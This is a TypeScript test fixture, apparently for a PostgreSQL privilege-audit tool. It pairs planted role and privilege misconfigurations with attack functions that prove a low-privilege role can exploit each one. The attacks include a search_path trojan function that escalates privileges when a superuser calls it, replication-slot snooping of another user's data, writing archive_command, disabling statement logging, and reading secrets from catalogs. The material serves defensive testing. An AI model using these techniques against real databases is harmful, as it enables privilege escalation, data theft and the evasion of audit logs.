import { can, value, type Plant } from './planted.ts';

/** Memberships, attributes, ownership, rights on objects and parameters. */
export const RIGHTS: readonly Plant[] = [
  {
    id: 'rights-after-set-role',
    plant: ['grant select on app.users to grp', 'grant grp to mallory with inherit false, set true'],
    object: 'mallory in grp',
    way: 'mallory can become grp: after SET ROLE',
    attack: ({ mallory }) => can(mallory, 'set role grp', 'select from app.users'),
  },
  {
    id: 'owner-inherited',
    plant: ['grant app_owner to mallory with inherit true, set false'],
    object: 'mallory in app_owner',
    way: 'mallory logs in with it',
    attack: ({ mallory }) => can(mallory, 'drop table app.users'),
  },
  {
    id: 'membership-admin',
    plant: ['grant select on app.users to grp', 'grant grp to mallory with inherit false, set false, admin true'],
    object: 'mallory in grp',
    way: 'mallory logs in with it',
    attack: ({ mallory }) => can(mallory, 'grant grp to mallory with inherit true', 'select from app.users'),
  },
  {
    id: 'membership-admin',
    how: 'behind a group',
    plant: [
      'create role deputy',
      'grant grp to deputy with admin true, inherit false, set false',
      'grant deputy to mallory with inherit false',
    ],
    object: 'deputy in grp',
    way: 'mallory can become deputy: after SET ROLE',
  },
  {
    id: 'createrole',
    plant: ['alter role mallory createrole'],
    object: 'mallory CREATEROLE',
    way: 'mallory logs in with it',
    attack: ({ mallory }) => can(mallory, 'create role another login createrole', 'grant another to mallory', 'set role another'),
  },
  {
    id: 'createrole-with-admin',
    plant: ['alter role mallory createrole', 'grant grp to mallory with admin true'],
    object: 'mallory in grp',
    attack: ({ mallory }) => can(mallory, 'create role another login', 'grant grp to another'),
  },
  {
    id: 'superuser-after-set-role',
    plant: ['create role boss superuser', 'grant boss to mallory'],
    object: 'boss SUPERUSER',
    way: 'mallory can become boss: after SET ROLE',
    attack: ({ mallory }) => can(mallory, 'set role boss', 'select from pg_authid'),
  },
  {
    id: 'bypassrls-login',
    plant: [
      'alter table app.orders enable row level security',
      'grant select on app.orders to mallory, grp',
      'alter role grp bypassrls',
      'grant grp to mallory with inherit false',
    ],
    object: 'grp BYPASSRLS',
    way: 'mallory can become grp: after SET ROLE',
    attack: ({ mallory }) => can(mallory, 'set role grp', 'select 1 / count(*) from app.orders'),
  },
  {
    id: 'replication-login',
    plant: ['alter role mallory replication', 'create publication everything for all tables'],
    object: 'mallory REPLICATION',
    attack: async ({ mallory, superuser }) => {
      const made = await value(mallory, `select slot_name from pg_create_logical_replication_slot('spy', 'pgoutput', true)`);
      if (made !== 'spy') return false;
      await superuser.query(`insert into app.users values (3, 'the secret of carol')`);
      const seen = await value(
        mallory,
        `select string_agg(encode(data, 'escape'), ' ')
         from pg_logical_slot_get_binary_changes('spy', null, null, 'proto_version', '1', 'publication_names', 'everything')`,
      );
      await mallory.query(`select pg_drop_replication_slot('spy')`);
      return String(seen).includes('the secret of carol');
    },
  },
  {
    id: 'create-on-database',
    plant: ['grant create on database planted to mallory'],
    object: 'mallory: create on database planted',
    attack: ({ mallory }) => can(mallory, 'create extension pg_trgm with schema app'),
  },
  {
    id: 'create-on-schema',
    plant: ['grant create on schema app to mallory'],
    object: 'mallory: create on schema app',
    attack: async (people) => {
      const { mallory, superuser } = people;
      const body = `begin if (select rolsuper from pg_roles where rolname = current_user) then alter role mallory createdb; end if; return $1; end`;
      const created = await mallory
        .query(`create function app.lower(varchar) returns varchar language plpgsql as $body$${body}$body$`)
        .then(
          () => true,
          () => false,
        );
      await superuser.query('set search_path = app');
      await superuser.query('select lower(nick) from app.users');
      await superuser.query('reset search_path; drop function if exists app.lower(varchar)');
      const { rows } = await superuser.query(`select rolcreatedb as got from pg_roles where rolname = 'mallory'`);
      await superuser.query('alter role mallory nocreatedb');
      return created && (rows[0] as { got: boolean }).got;
    },
  },
  {
    id: 'owner-logs-in',
    plant: ['alter schema app owner to mallory'],
    object: 'schema app',
    way: 'mallory logs in with it',
    attack: ({ mallory }) => can(mallory, 'drop table app.users'),
  },
  {
    id: 'owner-logs-in',
    how: 'the database',
    plant: ['grant connect on database planted to public', 'alter database planted owner to mallory'],
    object: 'database planted',
    attack: ({ mallory }) => can(mallory, `alter database planted set search_path = 'evil'`),
  },
  {
    id: 'references-privilege',
    plant: ['create schema own authorization mallory', 'grant references (id) on app.users to mallory'],
    object: 'mallory: references (id) on table app.users',
    attack: async ({ mallory, superuser }) => {
      await mallory.query('drop table if exists own.child');
      const made = await mallory
        .query('create table own.child (id int references app.users); insert into own.child values (1)')
        .then(
          () => true,
          () => false,
        );
      const blocked = made && !(await can(superuser, 'delete from app.users where id = 1'));
      await mallory.query('drop table if exists own.child');
      return blocked;
    },
  },
  {
    id: 'locks-without-timeout',
    plant: ['grant update on app.users to mallory', 'alter role mallory reset idle_in_transaction_session_timeout'],
    object: 'mallory',
    attack: async ({ reconnect }) => {
      const mallory = await reconnect();
      const locks = await can(mallory, 'lock table app.users in access exclusive mode');
      const forEver = (await value(mallory, 'show idle_in_transaction_session_timeout')) === '0';
      return locks && forEver;
    },
  },
  {
    id: 'grant-by-another',
    plant: [
      'grant select on app.users to grp with grant option',
      'set role grp',
      'grant select on app.users to mallory',
      'reset role',
      'revoke select on app.users from mallory',
    ],
    object: 'mallory: select on table app.users',
    attack: ({ mallory }) => can(mallory, 'select from app.users'),
  },
  {
    id: 'grant-option-held',
    plant: ['grant select on app.users to mallory with grant option'],
    object: 'mallory: select on table app.users',
    attack: ({ mallory }) =>
      can(mallory, 'grant select on app.users to grp', `select 1 / has_table_privilege('grp', 'app.users', 'select')::int`),
  },
  {
    id: 'grant-option-held',
    how: 'and passed on',
    plant: [
      'grant select on app.users to mallory with grant option',
      'set role mallory',
      'grant select on app.users to grp',
      'reset role',
    ],
    object: 'mallory: select on table app.users',
  },
  {
    id: 'default-privileges-hidden',
    plant: ['alter default privileges for role app_owner grant all on tables to mallory'],
    object: 'mallory: all on new tables of app_owner',
    attack: async ({ mallory, superuser }) => {
      await superuser.query('set role app_owner; drop table if exists app.made; create table app.made (); reset role');
      return can(mallory, 'delete from app.made');
    },
  },
  {
    id: 'session-replication-role',
    plant: [
      'create table app.lines (user_id int references app.users)',
      'grant insert on app.lines to mallory',
      'grant set on parameter session_replication_role to mallory',
    ],
    object: 'mallory: set on parameter session_replication_role',
    attack: ({ mallory }) => can(mallory, 'set session_replication_role = replica', 'insert into app.lines values (999)'),
  },
  {
    id: 'session-replication-role',
    how: 'kept after the REVOKE',
    plant: [
      'create table app.lines (user_id int references app.users)',
      'grant insert on app.lines to mallory',
      'grant set on parameter session_replication_role to mallory',
      'set role mallory',
      'alter role mallory set session_replication_role = replica',
      'reset role',
      'revoke set on parameter session_replication_role from mallory',
    ],
    object: 'mallory session_replication_role',
    attack: async ({ reconnect }) => can(await reconnect(), 'insert into app.lines values (999)'),
  },
  {
    id: 'alter-system-granted',
    plant: ['grant alter system on parameter archive_command to mallory'],
    object: 'mallory: alter system on parameter archive_command',
    attack: async ({ mallory, superuser }) => {
      const wrote = await mallory.query(`alter system set archive_command = 'touch owned'`).then(
        () => true,
        () => false,
      );
      const text = await value(superuser, `select pg_read_file('postgresql.auto.conf')`);
      await superuser.query('alter system reset archive_command');
      return wrote && String(text).includes('touch owned');
    },
  },
  {
    id: 'system-table-mods',
    plant: ['grant set on parameter allow_system_table_mods to mallory'],
    object: 'mallory: set on parameter allow_system_table_mods',
    attack: ({ mallory }) => can(mallory, 'set allow_system_table_mods = on'),
  },
  {
    id: 'superuser-parameter',
    plant: ['grant set on parameter log_statement to mallory'],
    object: 'mallory: set on parameter log_statement',
    attack: ({ mallory }) => can(mallory, 'set log_statement = none'),
  },
  {
    id: 'secret-in-catalog',
    plant: [`alter role app_owner set app.api_key = 'k-1234567890'`],
    object: 'app_owner app.api_key',
    attack: async ({ mallory }) =>
      String(await value(mallory, 'select string_agg(setconfig::text, null) from pg_db_role_setting')).includes('k-1234567890'),
  },
  {
    id: 'secret-in-catalog',
    how: 'in a body',
    plant: [`create function app.send() returns text language sql as $$ select 'https://u:hunter22@mail.example/' $$`],
    object: 'function app.send()',
    attack: async ({ mallory }) =>
      String(await value(mallory, `select prosrc from pg_proc where proname = 'send'`)).includes('hunter22'),
    fixable: false,
  },
];
